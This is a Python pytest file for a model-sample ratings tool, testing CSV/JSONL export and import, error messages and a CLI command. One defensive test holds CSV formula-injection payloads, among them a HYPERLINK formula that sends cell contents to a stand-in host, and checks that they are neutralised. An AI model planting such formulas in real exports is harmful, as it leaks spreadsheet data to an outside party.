"""Ratings export and import on real SQLite files and real CSV/JSONL files, and the `ratings` command."""

from __future__ import annotations

import csv
import json

import pytest

from core.errors import UserError
from core.ratings import io as ratings_io
from core.ratings.store import CRITERIA, open_store
from tests.conftest import run_core


def url(path) -> str:
    return f"sqlite:///{path}"


def record(**extra) -> dict:
    return {
        "model": "uer/gpt2-chinese-cluecorpussmall",
        "checkpoint": "/ws/runs/run-1/checkpoint-200",
        "run": "run-1",
        "dataset": "poems",
        "source": "playground",
        "prompt": "春眠不觉晓",
        "text": "，处处闻啼鸟。\n夜来风雨声，",
        "settings": {"name": "热", "do_sample": True, "temperature": 1.2},
        "seed": 7,
        "config_name": "热",
        **extra,
    }


SAMPLE_KEYS = ("model", "checkpoint", "run", "dataset", "prompt", "text", "settings", "seed", "config_name", "created")


def _filled(path):
    store = open_store(url(path))
    a, b, _unrated = store.add_samples([
        record(),
        record(model="gpt2", checkpoint=None, run=None, prompt="Once, \"quoted\", upon", text=" a time,\nthere", settings=None,
               seed=None, config_name="greedy"),
        record(text="never rated"),
    ])
    store.rate(a, "ann", {"fluency": 4, "coherence": 3, "style": 5, "repetition": 2}, comment="好诗, 但是")
    store.rate(a, "bo", {"fluency": 2})
    store.rate(b, "ann", {"coherence": 1}, comment="")
    return store


def _content(store) -> tuple[list, list]:
    samples = sorted(tuple(json.dumps(s[k], sort_keys=True, default=str) for k in SAMPLE_KEYS) for s in store.samples())
    ratings = sorted(
        (r["prompt"], r["text"], r["rater"], *(r[c] for c in CRITERIA), r["comment"]) for r in store.ratings()
    )
    return samples, ratings


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_then_import_into_a_fresh_database_round_trips(tmp_path, fmt):
    with _filled(tmp_path / "a.sqlite") as store:
        assert ratings_io.export(store, fmt, tmp_path / f"out.{fmt}") == 3
        store_samples, store_ratings = _content(store)
        rated = [s for s in store.samples() if s["text"] != "never rated"]
    with open_store(url(tmp_path / "b.sqlite")) as fresh:
        assert ratings_io.import_file(fresh, tmp_path / f"out.{fmt}") == {"samples": 2, "existing": 0, "ratings": 3}
        samples, ratings = _content(fresh)
        assert {s["source"] for s in fresh.samples()} == {"import"}
        assert len({s["batch"] for s in fresh.samples()}) == 1
    assert ratings == store_ratings
    assert samples == sorted(tuple(json.dumps(s[k], sort_keys=True, default=str) for k in SAMPLE_KEYS) for s in rated)
    assert len(store_samples) == 3  # the unrated sample is not in an export of ratings


def test_csv_is_utf8_with_bom_and_joined_with_provenance(tmp_path):
    with _filled(tmp_path / "a.sqlite") as store:
        ratings_io.export(store, "csv", tmp_path / "out.csv")
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "春眠不觉晓".encode() in raw
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == list(ratings_io.EXPORT_COLUMNS)
    assert (rows[0]["rater"], rows[0]["fluency"], rows[0]["checkpoint"], rows[0]["config_name"]) == (
        "ann", "4", "/ws/runs/run-1/checkpoint-200", "热")
    assert json.loads(rows[0]["settings"]) == record()["settings"]
    assert rows[1]["coherence"] == "" and rows[2]["text"] == " a time,\nthere"


def test_jsonl_export_is_one_object_a_line(tmp_path):
    with _filled(tmp_path / "a.sqlite") as store:
        ratings_io.export(store, "jsonl", tmp_path / "out.jsonl")
    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    first = json.loads(lines[0])
    assert len(lines) == 3 and "春眠不觉晓" in lines[0]
    assert first["settings"] == record()["settings"] and first["style"] == 5 and first["coherence"] == 3
    assert json.loads(lines[1])["style"] is None


def test_import_hand_made_csv_samples_with_and_without_ratings(tmp_path):
    path = tmp_path / "mine.csv"
    path.write_text(
        "model,prompt,text,settings,seed,rater,fluency,coherence,style,repetition,comment\n"
        'gpt2,Hello,  world,"{""top_k"": 50}",3,ann,5,4,,1,nice\n'
        "gpt2,Hello,there,,,,,,,,\n",
        encoding="utf-8",
    )
    with open_store(url(tmp_path / "lab.sqlite")) as store:
        assert ratings_io.import_file(store, path) == {"samples": 2, "existing": 0, "ratings": 1}
        first, second = store.samples()
        assert (first["text"], first["settings"], first["seed"], first["source"]) == ("  world", {"top_k": 50}, 3, "import")
        assert (second["settings"], second["seed"]) == (None, None)
        (rating,) = store.ratings()
        assert {c: rating[c] for c in CRITERIA} == {"fluency": 5, "coherence": 4, "style": None, "repetition": 1}
        assert store.progress("ann") == (1, 2)


@pytest.mark.parametrize(
    "name, content, says",
    [
        ("bad.csv", "model,prompt,text\ngpt2,Hi,there\ngpt2,Hi,\n", r"bad.csv line 3 lacks text"),
        ("bad.csv", "model,prompt,text,fluency,rater\ngpt2,Hi,a,3,ann\ngpt2,Hi,b,6,ann\n", "line 3: fluency score 6"),
        ("bad.csv", "model,prompt,text,fluency\ngpt2,Hi,a,3\n", "line 2 has scores or a comment but no rater"),
        ("bad.csv", "model,prompt,text,seed\ngpt2,Hi,a,x7\n", "line 2: seed 'x7'"),
        ("bad.csv", "model,prompt,text,settings\ngpt2,Hi,a,{oops\n", "line 2: settings is not valid JSON"),
        ("bad.csv", "model,prompt,text,flency\ngpt2,Hi,a,3\n", "line 2: unknown columns flency"),
        ("bad.csv", 'model,prompt,text\ngpt2,"multi\nline",a\ngpt2,Hi,"b",extra\n', "line 4: 4 cells"),
        ("bad.jsonl", '{"model": "gpt2", "prompt": "Hi", "text": "a"}\n\n{"model": "gpt2", "prompt": "Hi"\n', "line 3: not valid JSON"),
        ("bad.jsonl", '{"model": "gpt2", "prompt": "Hi", "text": "a", "settings": [1]}\n', "line 1: settings must be a JSON object"),
        ("bad.jsonl", '{"model": "gpt2", "prompt": "Hi", "text": "a", "created": "yesterday"}\n', "line 1: .*not an ISO"),
        ("bad.jsonl", '{"sample_id": 1, "model": "gpt2", "prompt": "Hi", "text": "a", "rater": "ann"}\n'
                      '{"sample_id": 1, "model": "gpt2", "prompt": "Hi", "text": "a", "rater": "ann"}\n', "line 2: a second rating"),
        ("bad.jsonl", '{"sample_id": 1, "model": "gpt2", "prompt": "Hi", "text": "a"}\n'
                      '{"sample_id": 1, "model": "gpt2", "prompt": "Hi", "text": "b"}\n', "line 2: sample_id 1 was on line 1"),
        ("empty.csv", "", "holds no samples"),
    ],
)
def test_bad_rows_name_their_line_and_store_nothing(tmp_path, name, content, says):
    (tmp_path / name).write_text(content, encoding="utf-8")
    with open_store(url(tmp_path / "lab.sqlite")) as store:
        with pytest.raises(UserError, match=says):
            ratings_io.import_file(store, tmp_path / name)
        assert store.count_samples() == 0 and store.ratings() == []


def test_the_strict_jsonl_reader_names_the_first_bad_line_and_the_lenient_one_reads_around_it(tmp_path):
    """One JSONL reader, core/files.py's, in two modes: an import takes a file whole or not at all (the first bad
    line is a UserError with its number), a run's appended file is read around a bad line."""
    from core.files import jsonl_objects, read_jsonl

    text = '{"a": 1}\n\n{"a": 2}\n[3]\n{"a": 4'  # a blank line, a list, a last line without its newline
    with pytest.raises(UserError, match=r"^x.jsonl line 4: expected a JSON object, got list$"):
        jsonl_objects(text, "x.jsonl")
    with pytest.raises(UserError, match=r"^x.jsonl line 2: not valid JSON \(Expecting"):
        jsonl_objects('{"a": 1}\n{"a": \n', "x.jsonl")
    assert jsonl_objects('{"a": 1}\n\n{"a": 2}', "x.jsonl") == [(1, {"a": 1}), (3, {"a": 2})]  # the last line counts
    (tmp_path / "x.jsonl").write_text(text, encoding="utf-8")
    assert read_jsonl(tmp_path / "x.jsonl") == ([{"a": 1}, {"a": 2}, [3]], None)  # a torn last line is left out
    assert read_jsonl(tmp_path / "x.jsonl", lambda r: None if isinstance(r, dict) else "not an object") == (
        [{"a": 1}, {"a": 2}], "x.jsonl line 4: not an object")


def test_unreadable_files_and_formats(tmp_path):
    with open_store(url(tmp_path / "lab.sqlite")) as store:
        with pytest.raises(UserError, match="no file"):
            ratings_io.import_file(store, tmp_path / "missing.csv")
        (tmp_path / "gbk.csv").write_bytes("model,prompt,text\ngpt2,春天,好\n".encode("gbk"))
        with pytest.raises(UserError, match="not UTF-8"):
            ratings_io.import_file(store, tmp_path / "gbk.csv")
        with pytest.raises(UserError, match="unknown export format 'xlsx'"):
            ratings_io.export(store, "xlsx", tmp_path / "out.xlsx")
        with pytest.raises(UserError, match="is a directory"):
            ratings_io.export(store, "csv", tmp_path)


def test_ratings_command_exports_and_imports(tmp_path):
    _filled(tmp_path / "a.sqlite").close()
    out = tmp_path / "out.jsonl"
    done = run_core("ratings", "export", "--out", str(out), QUILL_DB_URL=url(tmp_path / "a.sqlite"))
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"exported 3 ratings with their samples' provenance to {out}"
    assert len(out.read_text(encoding="utf-8").splitlines()) == 3  # .jsonl: the format from the extension

    done = run_core("ratings", "import", str(out), QUILL_DB_URL=url(tmp_path / "b.sqlite"))
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"imported 2 samples and 3 ratings from {out}"

    done = run_core("ratings", "export", "--format", "csv", "--out", str(tmp_path / "o.csv"),
                    QUILL_DB_URL=url(tmp_path / "b.sqlite"))
    assert done.returncode == 0 and (tmp_path / "o.csv").read_bytes().startswith(b"\xef\xbb\xbf")

    (tmp_path / "bad.csv").write_text("model,prompt,text\ngpt2,Hi,\n", encoding="utf-8")
    done = run_core("ratings", "import", str(tmp_path / "bad.csv"), QUILL_DB_URL=url(tmp_path / "b.sqlite"))
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.splitlines() == ["error: bad.csv line 2 lacks text; every row needs model, prompt and text"]

    done = run_core("ratings", "export", "--format", "xml", "--out", "x", QUILL_DB_URL=url(tmp_path / "b.sqlite"))
    assert done.returncode == 2 and len(done.stderr.splitlines()) == 1 and done.stderr.startswith("error: ")


def test_a_runs_gallery_of_the_old_line_shape_still_becomes_samples(tmp_path):
    """Run folders from before the gallery was written as sample records hold {step, prompt, text, seed} lines:
    their provenance comes from the run's config (tests/test_gallery.py has the records written today)."""
    from core.train.config import TrainConfig
    from core.train.gallery_import import import_gallery

    run = tmp_path / "runs" / "poems-run"
    run.mkdir(parents=True)
    (run / "config.json").write_text(TrainConfig(dataset="poems", model="starter").to_json())
    lines = [{"step": 0, "prompt": "月", "text": "光", "seed": 1234}, {"step": 50, "prompt": "月", "text": "下独酌", "seed": 1234}]
    (run / "samples.jsonl").write_text("".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines))
    with open_store(f"sqlite:///{tmp_path / 'lab.sqlite'}") as store:
        assert import_gallery(store, run) == 2
        first, second = store.samples()
    assert (first["model"], first["source"], first["run"]) == ("starter", "gallery", "poems-run")
    assert (second["model"], second["checkpoint"], second["text"]) == ("poems-run/checkpoint-50", "checkpoint-50", "下独酌")
    assert second["dataset"] == "poems" and second["settings"]["top_p"] == 0.9
    # The settings recorded are the ones the training worker samples with, all of them: its top-k 50 included.
    from core.playground.presets import gallery_decoding

    assert second["settings"] == gallery_decoding(TrainConfig().gallery_max_new_tokens, TrainConfig().gallery_seed).to_dict()
    assert second["settings"]["top_k"] == 50 and second["settings"]["temperature"] == 0.8


def test_csv_cells_that_would_run_as_formulas_are_text_and_import_back_exactly(tmp_path):
    # OWASP's CSV injection rule: a text cell starting with = + - @, a tab or a carriage return gets a leading '.
    payloads = {"=": "=HYPERLINK(\"http://x.test/?\"&A1)", "+": "+1+2", "-": "-2+3", "@": "@SUM(A1)",
                "\t": "\t=1+1", "\r": "\r=1+1"}
    store = open_store(url(tmp_path / "a.sqlite"))
    # config_name without the payload's leading whitespace: the import strips names (not prompts or texts)
    ids = store.add_samples([record(prompt=p, text=f"{p} tail", config_name=p.strip(), seed=-3) for p in payloads.values()])
    for (start, payload), sample_id in zip(payloads.items(), ids):
        rater = payload if start not in "\t\r" else f"rater {start!r}"  # a rater name is stripped: no tab or CR
        store.rate(sample_id, rater, {"fluency": 3}, comment=payload)
    plain = store.add_samples([record(prompt="Once", text=" upon", seed=-3)])[0]
    store.rate(plain, "ann", {"fluency": 4}, comment="'Tis fine")  # a leading quote of its own gets one more
    ratings_io.export(store, "csv", tmp_path / "out.csv")
    before = _content(store)
    store.close()

    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(payloads) + 1
    for row in rows[:-1]:
        payload = next(p for p in payloads.values() if row["prompt"] == "'" + p)
        assert (row["text"], row["comment"]) == ("'" + payload + " tail", "'" + payload)
        assert row["config_name"] == "'" + payload.strip()
        assert row["rater"] in ("'" + payload, f"rater {payload[0]!r}")
    for row in rows:
        assert row["seed"] == "-3" and row["fluency"] in ("3", "4")  # numbers stay numbers
        texts = [cell for key, cell in row.items() if key not in ("sample_id", "seed", *CRITERIA)]
        assert not any(cell.startswith(ratings_io.FORMULA_START) for cell in texts)
    assert (rows[-1]["prompt"], rows[-1]["text"], rows[-1]["rater"], rows[-1]["model"]) == ("Once", " upon", "ann", record()["model"])
    assert rows[-1]["comment"] == "''Tis fine"

    with open_store(url(tmp_path / "b.sqlite")) as fresh:
        ratings_io.import_file(fresh, tmp_path / "out.csv")
        assert _content(fresh) == before


def test_importing_a_sample_file_twice_stores_its_samples_once(tmp_path):
    """`ratings import` goes through the store's idempotent add: the same `sample --out` file twice, or a sample sent
    from the Playground and then imported, is one row with a content_hash, and its rating is revised, not doubled."""
    out = tmp_path / "samples.jsonl"
    lines = [record(source="cli", text=text) for text in ("一", "二", "三")]
    out.write_text("".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines), encoding="utf-8")
    with open_store(url(tmp_path / "lab.sqlite")) as store:
        [sent] = store.add_samples([{**lines[0], "source": "playground"}])  # "Send to ratings" first
        assert ratings_io.import_file(store, out) == {"samples": 2, "existing": 1, "ratings": 0}
        assert ratings_io.import_file(store, out) == {"samples": 0, "existing": 3, "ratings": 0}
        stored = store.samples()
        assert len(stored) == 3 and stored[0]["id"] == sent
        assert all(s["content_hash"] for s in stored)
    rated = tmp_path / "rated.csv"
    rated.write_text("model,prompt,text,rater,fluency\ngpt2,Hi,there,ann,4\n", encoding="utf-8")
    with open_store(url(tmp_path / "lab.sqlite")) as store:
        ratings_io.import_file(store, rated)
        rated.write_text("model,prompt,text,rater,fluency\ngpt2,Hi,there,ann,2\n", encoding="utf-8")
        assert ratings_io.import_file(store, rated) == {"samples": 0, "existing": 1, "ratings": 1}
        assert [r["fluency"] for r in store.ratings()] == [2]
    done = run_core("ratings", "import", str(out), QUILL_DB_URL=url(tmp_path / "lab.sqlite"))
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"imported 0 samples (3 already stored, not added again) and 0 ratings from {out}"
